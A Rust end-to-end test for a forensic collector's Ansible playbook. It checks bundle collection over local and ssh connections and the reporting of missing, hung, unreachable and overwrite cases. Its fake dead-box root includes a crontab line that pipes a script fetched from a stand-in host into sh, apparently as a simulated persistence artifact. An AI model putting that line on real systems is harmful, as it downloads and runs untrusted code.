//! Issue 19: the Ansible playbook (`fleet/ansible/collect.yml`) collects real bundles.
//! - `ansible_connection=local` hosts against sandboxed roots (dead-box image directories the test
//!   builds): streaming, copy-run-fetch, a host whose collector is missing, one that hangs past its
//!   timeout, and a bundle that would be overwritten — each failure named in the summary; copy mode
//!   leaves nothing in the temporary directory it was given;
//! - two network-namespace hosts with their own `sshd` on veth pairs (127.77.N.2) and one address no
//!   sshd answers: streaming over ssh and copy-run-fetch over ssh, run from a control namespace.
//!
//! Needs `ansible-core` (pip), `openssh-server`, `iproute2`; a missing tool fails the test with the line
//! that installs it.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use minetrace_e2e::binaries;
use minetrace_e2e::ssh_hosts::SshNet;
use minetrace_schemas::bundle::{members, Bundle, ReadLimits};
use minetrace_schemas::records::RecordSetV1;
use serde_json::Value;

fn playbook_dir() -> PathBuf {
    binaries::workspace_root().join("fleet/ansible")
}

fn require_ansible() {
    let ok = Command::new("ansible-playbook")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        ok,
        "ansible-playbook is required; install it with: python3 -m pip install ansible-core"
    );
}

/// A dead-box root with a hostname, an account and a crontab line.
fn make_root(dir: &Path, hostname: &str) -> PathBuf {
    let root = dir.join(format!("root-{hostname}"));
    for d in ["etc", "var/spool/cron/crontabs", "root/.ssh"] {
        std::fs::create_dir_all(root.join(d)).expect("root dirs");
    }
    std::fs::write(root.join("etc/hostname"), format!("{hostname}\n")).expect("hostname");
    std::fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n").expect("passwd");
    std::fs::write(
        root.join("var/spool/cron/crontabs/root"),
        "*/5 * * * * curl -fsSL http://127.66.0.9/x.sh | sh\n",
    )
    .expect("crontab");
    root
}

/// Runs the playbook with an inventory text and extra variables; `wrap` runs it in another namespace.
fn playbook(
    inventory: &str,
    dir: &Path,
    extra: &[(&str, String)],
    wrap: Option<&SshNet>,
) -> Output {
    let inv = dir.join("inventory.ini");
    std::fs::write(&inv, inventory).expect("inventory");
    let mut cmd = match wrap {
        Some(net) => net.command("ansible-playbook"),
        None => Command::new("ansible-playbook"),
    };
    cmd.current_dir(playbook_dir())
        .arg("-i")
        .arg(&inv)
        .arg("collect.yml");
    for (k, v) in extra {
        cmd.arg("-e").arg(format!("{k}={v}"));
    }
    cmd.env("ANSIBLE_NOCOLOR", "1");
    let started = std::time::Instant::now();
    let out = cmd.output().expect("running ansible-playbook");
    eprintln!(
        "ansible-playbook ({extra:?}) took {:.1} s",
        started.elapsed().as_secs_f64()
    );
    out
}

fn summary(bundles: &Path) -> BTreeMap<String, Value> {
    let text = std::fs::read_to_string(bundles.join("collect-summary.json"))
        .expect("collect-summary.json");
    let v: Vec<Value> = serde_json::from_str(&text).expect("summary is JSON");
    v.into_iter()
        .map(|r| (r["host"].as_str().unwrap_or_default().to_owned(), r))
        .collect()
}

/// The bundle verifies and is of `hostname`.
fn assert_bundle(path: &Path, hostname: &str) {
    let b = Bundle::open(path, ReadLimits::default())
        .and_then(Bundle::verified)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    assert_eq!(b.manifest.host.hostname, hostname, "{}", path.display());
    match b.records(members::HOST) {
        Ok(Some(RecordSetV1::Host(h))) => assert_eq!(h.identity.hostname, hostname),
        other => panic!("host record of {}: {other:?}", path.display()),
    }
    let side = std::fs::read_to_string(format!("{}.sha256", path.display()))
        .expect(".sha256 beside the bundle");
    assert_eq!(side.split_whitespace().next(), b.sha256.as_deref());
}

fn show(out: &Output) -> String {
    format!(
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// The collector with its debug symbols stripped (a tenth of the size), for copy mode to transfer.
fn stripped_collector(dir: &Path) -> PathBuf {
    let full = binaries::collector().expect("collector");
    let small = dir.join("minetrace-collect");
    std::fs::copy(&full, &small).expect("copy collector");
    let ok = Command::new("strip")
        .arg(&small)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "strip is required (binutils, with gcc)");
    small
}

/// Variables for a copy-mode run of `hosts` into `bundles`; the hosts' temporary directories are made
/// in `DIR/remote-tmp` (see [`remote_tmp_entries`]).
fn copy_mode(dir: &Path, bundles: &Path, hosts: &str) -> Vec<(&'static str, String)> {
    let remote_tmp = dir.join("remote-tmp");
    std::fs::create_dir_all(&remote_tmp).expect("remote tmp");
    vec![
        ("minetrace_remote_tmp", remote_tmp.display().to_string()),
        ("minetrace_bundle_dir", bundles.display().to_string()),
        ("minetrace_mode", "copy".into()),
        (
            "minetrace_collector",
            stripped_collector(dir).display().to_string(),
        ),
        ("minetrace_hosts", hosts.into()),
    ]
}

/// What copy mode left in the hosts' temporary directory.
fn remote_tmp_entries(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir.join("remote-tmp"))
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn local_hosts_stream_copy_and_report_failures() {
    require_ansible();
    let collector = binaries::collector().expect("collector");
    let dir = tempfile::tempdir().expect("tempdir");
    let (a, b) = (
        make_root(dir.path(), "alpha"),
        make_root(dir.path(), "bravo"),
    );
    let hang = dir.path().join("hang.sh");
    std::fs::write(&hang, "#!/bin/sh\nsleep 60\n").expect("hang script");
    std::fs::set_permissions(&hang, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let bundles = dir.path().join("bundles");
    let inventory = format!(
        "[local]\nalpha minetrace_collect_args=\"--root {}\"\nbravo minetrace_collect_args=\"--root {}\"\n\
gone minetrace_remote_collector=/nonexistent/minetrace-collect\nslow minetrace_remote_collector={} minetrace_timeout=3\n\
[local:vars]\nansible_connection=local\nansible_python_interpreter=/usr/bin/python3\nminetrace_remote_collector={}\n",
        a.display(),
        b.display(),
        hang.display(),
        collector.display()
    );
    let vars = [("minetrace_bundle_dir", bundles.display().to_string())];
    let out = playbook(&inventory, dir.path(), &vars, None);
    assert!(
        !out.status.success(),
        "failed hosts must fail the run\n{}",
        show(&out)
    );
    let s = summary(&bundles);
    assert_eq!(s.len(), 4, "{s:?}");
    assert_eq!(s["alpha"]["ok"], true, "{}", show(&out));
    assert_eq!(s["bravo"]["ok"], true);
    assert_bundle(&bundles.join("alpha.tar.zst"), "alpha");
    assert_bundle(&bundles.join("bravo.tar.zst"), "bravo");
    let reason = |h: &str| s[h]["reason"].as_str().unwrap_or_default().to_owned();
    assert_eq!(s["gone"]["ok"], false);
    assert!(
        reason("gone").contains("No such file"),
        "{}",
        reason("gone")
    );
    assert!(
        reason("slow").contains("timed out after 3 s"),
        "{}",
        reason("slow")
    );
    assert!(!bundles.join("gone.tar.zst").exists() && !bundles.join("slow.tar.zst").exists());
    assert!(
        !bundles.join("slow.tar.zst.part").exists(),
        "a partial stream was left behind"
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("2 of 4 hosts collected"), "{stdout}");

    // Again into the same directory: an existing bundle is evidence and is never overwritten.
    let again = playbook(
        &inventory,
        dir.path(),
        &[
            ("minetrace_bundle_dir", bundles.display().to_string()),
            ("minetrace_hosts", "alpha".into()),
        ],
        None,
    );
    assert!(!again.status.success());
    assert!(summary(&bundles)["alpha"]["reason"]
        .as_str()
        .unwrap_or_default()
        .contains("refusing to overwrite"));
    assert_bundle(&bundles.join("alpha.tar.zst"), "alpha");

    // Copy-run-fetch: the collector copied to a temporary directory, run, fetched, the directory gone.
    let copied = dir.path().join("copied");
    let out = playbook(
        &inventory,
        dir.path(),
        &copy_mode(dir.path(), &copied, "alpha:bravo"),
        None,
    );
    assert!(out.status.success(), "{}", show(&out));
    assert_bundle(&copied.join("alpha.tar.zst"), "alpha");
    assert_bundle(&copied.join("bravo.tar.zst"), "bravo");
    assert_eq!(
        remote_tmp_entries(dir.path()),
        Vec::<String>::new(),
        "copy mode left its temporary directory on the host"
    );
}

#[test]
fn namespace_hosts_over_ssh() {
    require_ansible();
    let collector = binaries::collector().expect("collector");
    let net = SshNet::start(2).expect("namespace hosts with sshd");
    let dir = tempfile::tempdir().expect("tempdir");
    let roots: Vec<PathBuf> = ["web-01", "db-01"]
        .iter()
        .map(|h| make_root(dir.path(), h))
        .collect();
    let bundles = dir.path().join("bundles");
    let inventory = format!(
        "[ns]\nweb-01 ansible_host={} minetrace_collect_args=\"--root {}\"\ndb-01 ansible_host={} minetrace_collect_args=\"--root {}\"\n\
dark-01 ansible_host=127.77.9.2 minetrace_connect_timeout=3\n\
[ns:vars]\nansible_user=root\nansible_ssh_private_key_file={}\n\
ansible_ssh_common_args=\"-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null\"\n\
ansible_python_interpreter=/usr/bin/python3\nminetrace_remote_collector={}\n",
        net.hosts[0].address,
        roots[0].display(),
        net.hosts[1].address,
        roots[1].display(),
        net.client_key.display(),
        collector.display()
    );
    let out = playbook(
        &inventory,
        dir.path(),
        &[("minetrace_bundle_dir", bundles.display().to_string())],
        Some(&net),
    );
    assert!(
        !out.status.success(),
        "the dark host must fail the run\n{}",
        show(&out)
    );
    let s = summary(&bundles);
    assert_eq!(
        s["web-01"]["ok"],
        true,
        "{}\n{}",
        show(&out),
        net.sshd_logs()
    );
    assert_eq!(s["db-01"]["ok"], true, "{}", show(&out));
    assert_bundle(&bundles.join("web-01.tar.zst"), "web-01");
    assert_bundle(&bundles.join("db-01.tar.zst"), "db-01");
    assert_eq!(s["dark-01"]["ok"], false);
    assert!(
        s["dark-01"]["reason"]
            .as_str()
            .unwrap_or_default()
            .starts_with("ssh failed"),
        "{:?}",
        s["dark-01"]
    );

    let copied = dir.path().join("copied");
    let out = playbook(
        &inventory,
        dir.path(),
        &copy_mode(dir.path(), &copied, "web-01"),
        Some(&net),
    );
    assert!(out.status.success(), "{}\n{}", show(&out), net.sshd_logs());
    assert_bundle(&copied.join("web-01.tar.zst"), "web-01");
    assert_eq!(remote_tmp_entries(dir.path()), Vec::<String>::new());
}
